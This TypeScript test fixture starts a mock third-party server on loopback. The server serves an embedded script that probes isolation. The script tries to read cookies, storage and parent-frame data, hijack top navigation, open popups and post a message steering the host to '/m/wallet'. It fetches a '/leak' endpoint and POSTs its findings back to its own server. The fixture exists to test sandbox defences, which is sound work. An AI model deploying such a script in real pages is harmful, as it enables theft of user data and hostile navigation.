import { createServer, type IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'

/** One request received by another party's server. */
interface ReceivedRequest {
  path: string
  headers: IncomingHttpHeaders
  body: string
}

export interface ThirdParty {
  /** Origin under a separate hostname. */
  origin: string
  /** Every request so far. */
  received: ReceivedRequest[]
  /** Findings of its script, one per run. */
  readFindings(): Record<string, string>[]
  /** Forgets what it received, and answers. */
  reset(): void
  /** From now on it closes connections, or answers again. */
  setAway(isAway: boolean): void
  close(): Promise<void>
}

/** A script that tries every access and navigation, and reports the results to its own server. */
const curiousScript = `(async () => {
  const home = document.currentScript.src
  const found = {}
  const attempt = async (name, run) => {
    try { found[name] = String(await run()) } catch (error) { found[name] = error.name }
  }
  await attempt('origin', () => self.origin)
  await attempt('address', () => location.href)
  await attempt('referrer', () => document.referrer)
  await attempt('name', () => window.name)
  await attempt('cookie', () => document.cookie)
  await attempt('localStorage', () => localStorage.length)
  await attempt('sessionStorage', () => sessionStorage.length)
  await attempt('caches', () => caches.keys())
  await attempt('indexedDB', () => indexedDB.open('x') && 'opened')
  await attempt('parentAddress', () => parent.location.href)
  await attempt('parentDocument', () => parent.document.title)
  await attempt('parentStorage', () => parent.sessionStorage.length)
  await attempt('parentGlobal', () => parent.foyerScript)
  await attempt('frameElement', () => frameElement)
  await attempt('leading', () => { top.location.href = home })
  await attempt('popup', () => open(home))
  await attempt('eval', () => Function('return 1')())
  await attempt('ourCalls', () => fetch(location.ancestorOrigins[0] + '/wps/v2/system/status'))
  await attempt('others', () => fetch('http://elsewhere.localhost:9/leak'))
  parent.postMessage({ type: 'navigate', go: '/m/wallet' }, '*')
  const another = document.createElement('script')
  another.src = new URL('/unlisted.js', home).href
  document.head.append(another)
  await attempt('unlisted', () => new Promise((resolve) => {
    another.onload = () => resolve('loaded')
    another.onerror = () => resolve('refused')
  }))
  await fetch(new URL('/findings', home), { method: 'POST', body: JSON.stringify(found) })
})()`

/** Starts the server of a third party on loopback; `/tag.js` is its script, `/broken.js` one that fails. */
export async function startThirdParty(): Promise<ThirdParty> {
  const received: ReceivedRequest[] = []
  let isAway = false
  const server = createServer(async (request, response) => {
    if (isAway) return void request.socket.destroy()
    const chunks: Buffer[] = []
    for await (const chunk of request) chunks.push(chunk)
    const path = request.url ?? ''
    received.push({ path, headers: request.headers, body: Buffer.concat(chunks).toString('utf8') })
    response.setHeader('access-control-allow-origin', '*')
    if (path.endsWith('.js')) response.setHeader('content-type', 'text/javascript')
    response.end({ '/tag.js': curiousScript, '/broken.js': 'throw new Error("of a third party")' }[path] ?? '')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo // it listens on TCP
  return {
    origin: `http://third.localhost:${port}`,
    received,
    readFindings: () => received.filter(({ path }) => path === '/findings').map(({ body }) => JSON.parse(body)),
    reset() {
      received.length = 0
      isAway = false
    },
    setAway(next) {
      isAway = next
    },
    async close() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}
